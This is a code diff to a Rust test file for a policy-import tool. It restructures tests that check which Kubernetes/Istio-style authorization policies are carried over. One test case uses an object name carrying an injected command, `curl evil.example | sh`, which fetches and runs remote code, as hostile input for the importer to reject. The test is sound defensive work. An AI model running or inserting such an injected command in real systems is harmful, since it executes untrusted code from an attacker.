@@ -41,9 +41,56 @@ const OF_WEB: &str = "{selector: {matchLabels: {app: web}}, rules: [{}]}";
 const OF_VERSION: &str = "{selector: {matchLabels: {version: v1}}, rules: [{}]}";
 const OF_ALL: &str = "{rules: [{}]}";
 
+type Case<'c> = (&'c [(&'c str, &'c str)], &'c [&'c str], &'c [usize]);
+
+/// Which policies are left of some objects, and which objects are left out.
+fn assert_carried(cases: &[Case<'_>]) {
+    for (objects, expected, lost) in cases {
+        let imported = import(objects);
+        let found = carried(&imported);
+        assert_eq!(found.0, *expected, "{objects:?}: {}", messages(&imported));
+        assert_eq!(found.1, *lost, "{objects:?}: {}", messages(&imported));
+    }
+}
+
+#[test]
+fn copies_of_an_object_are_one_or_none() {
+    assert_carried(&[
+        // Nobody knows which of the versions the cluster has.
+        (
+            &[
+                ("shop/a", OF_CART),
+                ("shop/a", OF_WEB),
+                ("shop/b", OF_CART),
+                ("shop/c", OF_VERSION),
+                ("bank/a", OF_CART),
+            ],
+            &["bank/a"],
+            &[1, 2, 3, 4],
+        ),
+        (
+            &[
+                ("shop/a", OF_CART),
+                ("shop/a", OF_CART),
+                ("shop/b", OF_CART),
+            ],
+            &["shop/a"],
+            &[],
+        ),
+        (
+            &[
+                ("shop/a", UNSAID),
+                ("shop/a; curl evil.example | sh", OF_WEB),
+            ],
+            &[],
+            &[1, 2],
+        ),
+    ]);
+}
+
 #[test]
 fn policies_of_a_workload_are_imported_together_or_not_at_all() {
-    for (objects, expected, lost) in [
+    assert_carried(&[
         (
             &[("shop/a", UNSAID), ("shop/b", OF_WEB)][..],
             &["shop/b"][..],
@@ -92,35 +139,6 @@ fn policies_of_a_workload_are_imported_together_or_not_at_all() {
             &["bank/c", "istio-system/b"],
             &[1],
         ),
-        // Nobody knows which of the versions the cluster has.
-        (
-            &[
-                ("shop/a", OF_CART),
-                ("shop/a", OF_WEB),
-                ("shop/b", OF_CART),
-                ("shop/c", OF_VERSION),
-                ("bank/a", OF_CART),
-            ],
-            &["bank/a"],
-            &[1, 2, 3, 4],
-        ),
-        (
-            &[
-                ("shop/a", OF_CART),
-                ("shop/a", OF_CART),
-                ("shop/b", OF_CART),
-            ],
-            &["shop/a"],
-            &[],
-        ),
-        (
-            &[
-                ("shop/a", UNSAID),
-                ("shop/a; curl evil.example | sh", OF_WEB),
-            ],
-            &[],
-            &[1, 2],
-        ),
         // What it is for cannot be read.
         (
             &[
@@ -160,12 +178,7 @@ fn policies_of_a_workload_are_imported_together_or_not_at_all() {
             &["shop/b", "shop/c"],
             &[1],
         ),
-    ] {
-        let imported = import(objects);
-        let found = carried(&imported);
-        assert_eq!(found.0, expected, "{objects:?}: {}", messages(&imported));
-        assert_eq!(found.1, lost, "{objects:?}: {}", messages(&imported));
-    }
+    ]);
 }
 
 /// Errors that come up only when the documents are put together name the original.
@@ -182,7 +195,9 @@ fn what_the_language_refuses_is_reported_where_it_was_written() {
     let text = object("shop/b", custom);
     let span = finding.place.span;
     assert!(
-        text[span.start..span.end].contains("namespaces: [a]"),
+        text.get(span.start..span.end)
+            .unwrap()
+            .contains("namespaces: [a]"),
         "{finding:?}"
     );
     assert!(
@@ -331,7 +346,7 @@ fn names_say_what_things_are_and_overwrite_no_other_object() {
         (&[("shop/cart.v1", OF_CART)], "cart.v1(cart-v1)"),
         (
             &[(&*format!("shop/{long}"), OF_CART)],
-            &*format!("{long}({})", &long[..63]),
+            &*format!("{long}({})", long.get(..63).unwrap()),
         ),
         // Rendered objects would overwrite an original of other workloads, of another action, a large one's parts, or
         // one that is not carried over.
